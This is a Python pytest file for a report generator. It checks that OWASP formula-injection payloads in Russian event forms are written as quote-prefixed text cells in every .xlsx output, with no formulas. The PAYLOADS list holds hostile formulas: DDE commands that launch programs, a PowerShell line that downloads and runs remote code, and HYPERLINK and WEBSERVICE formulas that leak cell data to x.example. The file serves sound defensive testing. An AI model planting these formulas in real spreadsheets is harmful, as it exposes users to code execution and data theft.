"""Outputs that cannot attack their reader: a form's text never becomes a formula in any .xlsx reportgen writes.

The OWASP CSV-injection payloads go into a form's cells as text. `build --xlsx`, `split` (the
report back to forms) and `validate --annotate` (marked copies, from an .xlsx and from an .ods)
must write each of them as a string cell, quote-prefixed, with no <f> element anywhere; re-saved
by LibreOffice (to .xlsx and to CSV) it is still the text.
"""

from __future__ import annotations

import csv
import re
import zipfile
from pathlib import Path

import openpyxl
import pytest

from books import canonical

PAYLOADS = [
    "=cmd|' /C calc'!A0",
    "=cmd|'/C powershell IEX(wget 0r.pe/p)'!A0",
    '=HYPERLINK("http://x.example/?leak="&B7,"Нажмите")',
    '=WEBSERVICE("http://x.example/?"&A1)',
    '=IMPORTXML(CONCAT("http://x.example/?v=",A2),"//a")',
    '=DDE("cmd";"/C calc";"__DdeLink_60_870516294")',
    "+SUM(1,1)",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=2+2",
    "-",  # what clerks write for «none»: still a plain «-»
]
RISKY = ("=", "+", "-", "@", "\t", "\r")


def _form(path: Path) -> Path:
    """A form whose names and goals are the payloads, stored as text cells (as a clerk's quote-prefixed entry is);
    one row has dates that cannot be read, so the form gets a marked copy."""
    events = [[f"{i}.", p, "г. Вязьма", f"{i} апреля 2025 года", p, "10"] for i, p in enumerate(PAYLOADS, 1)]
    events.append([f"{len(PAYLOADS) + 1}.", PAYLOADS[0], "г. Вязьма", "когда-нибудь", PAYLOADS[2], "5"])
    wb = openpyxl.Workbook()
    ws = wb.active
    ws.title = "Мероприятия"
    for r, values in enumerate(canonical(*events), start=1):
        for c, value in enumerate(values, start=1):
            if value is not None:
                ws.cell(r, c, value).data_type = "s"
    wb.save(path)
    assert "<f>" not in _sheets_xml(path)  # the input holds text, not formulas
    return path


def _sheets_xml(path: Path) -> str:
    with zipfile.ZipFile(path) as z:
        return "".join(z.read(n).decode("utf-8") for n in z.namelist()
                       if n.startswith("xl/worksheets/") and n.endswith(".xml"))


def _found(texts: set[str]) -> None:
    """Every payload is there as text (the reader may have dropped a leading tab or CR: control-chars)."""
    missing = [p for p in PAYLOADS if p not in texts and p.lstrip("\t\r") not in texts]
    assert missing == [], missing


def _all_text(path: Path, quote_prefixed: bool = True) -> set[str]:
    """The workbook's texts; asserts there is no formula anywhere and every risky text is a string cell."""
    xml = _sheets_xml(path)
    assert re.search(r"<(?:\w+:)?f[\s>/]", xml) is None, path.name
    texts = set()
    for ws in openpyxl.load_workbook(path).worksheets:
        for row in ws.iter_rows():
            for cell in row:
                if isinstance(cell.value, str):
                    texts.add(cell.value)
                    if cell.value.startswith(RISKY):
                        assert cell.data_type == "s", (path.name, cell.coordinate, cell.value)
                        assert cell.quotePrefix or not quote_prefixed, (path.name, cell.coordinate, cell.value)
    return texts


def _through_office(paths: list[Path], out: Path) -> None:
    """Re-saved by LibreOffice, each is still text: no formula, and the first sheet as CSV holds the payloads."""
    from reportgen.write.office import convert

    for saved in convert(paths, "xlsx", out / "xlsx"):
        _found(_all_text(saved, quote_prefixed=False))
    for saved in convert(paths, "csv:Text - txt - csv (StarCalc):44,34,76", out / "csv"):
        with open(saved, encoding="utf-8", newline="") as f:
            _found({value for row in csv.reader(f) for value in row})


@pytest.fixture
def made(tmp_path, run):
    form = _form(tmp_path / "Вязьма.xlsx")
    assert run("build", form, "--force", "-o", tmp_path / "отчет.docx", "--xlsx", tmp_path / "сводная.xlsx").code == 0
    assert run("split", tmp_path / "отчет.docx", "-o", tmp_path / "формы").code == 0
    assert run("validate", form, "--annotate", tmp_path / "копии").code == 1
    return tmp_path


def test_table_and_split_forms_keep_payloads_as_text(made, office, ooxml, tmp_path):
    table = made / "сводная.xlsx"
    [form] = (made / "формы").iterdir()
    for path in (table, form):
        _found(_all_text(path))
    assert ooxml(table, form) == ""
    _through_office([table, form], tmp_path / "lo")


def test_marked_copy_keeps_payloads_as_text(made, office, ooxml, tmp_path):
    [copy] = (made / "копии").iterdir()
    _found(_all_text(copy))
    assert ooxml(copy) == ""
    from reportgen.write.office import convert

    for saved in convert([copy], "xlsx", tmp_path / "lo"):
        _found(_all_text(saved, quote_prefixed=False))


def test_marked_copy_of_an_ods_keeps_payloads_as_text(made, office, ooxml, run, tmp_path):
    """An .ods (read by calamine, written anew) once had every «=…» text turned into a formula."""
    from reportgen.write.office import convert

    [ods] = convert([made / "Вязьма.xlsx"], "ods", tmp_path / "ods")
    assert run("validate", ods, "--annotate", tmp_path / "копии-ods").code == 1
    [copy] = (tmp_path / "копии-ods").iterdir()
    assert copy.name == "Вязьма.xlsx"
    _found(_all_text(copy))
    assert ooxml(copy) == ""
